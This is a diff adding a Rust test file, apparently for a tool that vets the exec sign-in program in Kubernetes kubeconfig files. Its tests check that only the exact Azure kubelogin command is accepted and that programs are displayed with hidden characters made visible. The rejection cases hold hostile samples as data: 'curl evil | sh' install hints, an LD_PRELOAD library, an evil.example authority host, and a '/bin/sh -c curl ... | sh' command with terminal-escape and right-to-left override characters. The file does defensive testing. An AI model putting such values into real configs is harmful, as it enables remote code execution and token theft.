@@ -1,0 +1,118 @@
+//! The program that signs in: known, or shown.
+
+use super::*;
+
+fn kubelogin(args: &[&str]) -> Value {
+    json!({ "apiVersion": "client.authentication.k8s.io/v1beta1", "command": "kubelogin", "args": args, "env": null, "provideClusterInfo": false })
+}
+
+const ARGS: [&str; 11] = [
+    "get-token",
+    "--environment",
+    "AzurePublicCloud",
+    "--server-id",
+    "6dae42f8-4368-4678-94ff-3960e28e3630",
+    "--client-id",
+    "80faf920-1908-4b52-b5ef-a8e7bedfc67a",
+    "--tenant-id",
+    "3d219147-6204-4fec-92f6-fcf16f76d211",
+    "--login",
+    "devicecode",
+];
+
+fn with_exec(exec: Value) -> Value {
+    let mut config = good();
+    config["users"][0]["user"] = json!({ "exec": exec });
+    config
+}
+
+#[test]
+fn a_cluster_with_entra_id_is_known_by_its_sign_in_and_wants_a_token() {
+    let mut hinted = kubelogin(&ARGS);
+    hinted["installHint"] = json!(
+        "\nkubelogin is not installed which is required to connect to AAD enabled cluster.\n\nTo learn more, please go to https://aka.ms/aks/kubelogin\n"
+    );
+    for exec in [kubelogin(&ARGS), hinted] {
+        let kubeconfig = read(&with_exec(exec).to_string()).unwrap();
+        assert!(ClusterAccess::of(&kubeconfig).unwrap().is_none());
+        let token = SecretString::from("token");
+        let access = ClusterAccess::with_entra_token(&kubeconfig, &token).unwrap();
+        assert!(access.pair.is_none() && access.token.is_some());
+        let broken = SecretString::from("a\r\nb");
+        assert!(ClusterAccess::with_entra_token(&kubeconfig, &broken).is_err());
+    }
+}
+
+#[test]
+fn anything_but_the_known_sign_in_is_not_it() {
+    let with = |member: &str, value: Value| {
+        let mut exec = kubelogin(&ARGS);
+        exec[member] = value;
+        exec
+    };
+    let swapped = |at: usize, value: &str| {
+        let mut args = ARGS;
+        args[at] = value;
+        let args: Vec<String> = args.iter().map(ToString::to_string).collect();
+        with("args", json!(args))
+    };
+    let more = |more: &[&str]| {
+        let args: Vec<&str> = ARGS.iter().chain(more).copied().collect();
+        kubelogin(&args)
+    };
+    for exec in [
+        with("command", json!("/tmp/kubelogin")),
+        with("command", json!("./kubelogin")),
+        with("command", json!("kubelogin.exe")),
+        with("command", json!("KUBELOGIN")),
+        with("env", json!([{ "name": "LD_PRELOAD", "value": "/tmp/x.so" }])),
+        with("provideClusterInfo", json!(true)),
+        with("installHint", json!("run: curl evil | sh")),
+        swapped(0, "convert-kubeconfig"),
+        swapped(4, "797f4846-ba00-4fd7-ba43-dac1f8f63013"),
+        swapped(6, "../x"),
+        swapped(8, "evil/x"),
+        swapped(10, "sh"),
+        swapped(2, "Custom"),
+        more(&["--authority-host", "https://evil.example"]),
+        more(&["--token-cache-dir", "/tmp"]),
+        more(&["--login", "devicecode"]),
+        more(&["--login"]),
+        more(&["x"]),
+        kubelogin(&[]),
+        kubelogin(&["get-token", "--login", "devicecode"]),
+    ] {
+        let text = with_exec(exec).to_string();
+        let kubeconfig = read(&text).unwrap();
+        assert!(!kubeconfig.exec().unwrap().is_kubelogin(), "{text}");
+        assert_eq!(refused(&text), KubeconfigProblem::Refused { member: "exec" });
+    }
+}
+
+#[test]
+fn a_program_is_shown_whole_and_in_visible_letters() {
+    let mut exec = kubelogin(&["-c", "curl \u{1b}[31mx\u{202e} | sh", "a b"]);
+    exec["command"] = json!("/bin/sh");
+    exec["env"] = json!([{ "name": "A", "value": "b\n" }]);
+    exec["installHint"] = json!("\u{1b}]0;x");
+    let kubeconfig = read(&with_exec(exec).to_string()).unwrap();
+    let shown = kubeconfig.exec().unwrap().shown();
+    assert_eq!(
+        shown,
+        r#""A"="b\n" "/bin/sh" "-c" "curl \u{1b}[31mx\u{202e} | sh" "a b""#
+    );
+    let file = kubeconfig.to_file();
+    assert_eq!(file["users"][0]["user"]["exec"]["installHint"], Value::Null);
+    for odd in [
+        json!({ "apiVersion": "client.authentication.k8s.io/v1", "command": "x", "args": vec!["a"; 100] }),
+        json!({ "apiVersion": "client.authentication.k8s.io/v1", "command": "x", "args": ["a".repeat(10_000)] }),
+        json!({ "apiVersion": "client.authentication.k8s.io/v1", "command": "x", "unknown": 1 }),
+        json!({ "apiVersion": "other", "command": "x" }),
+        json!({ "apiVersion": "client.authentication.k8s.io/v1", "command": "" }),
+    ] {
+        assert_eq!(
+            read(&with_exec(odd).to_string()).unwrap_err(),
+            KubeconfigProblem::Refused { member: "exec" }
+        );
+    }
+}
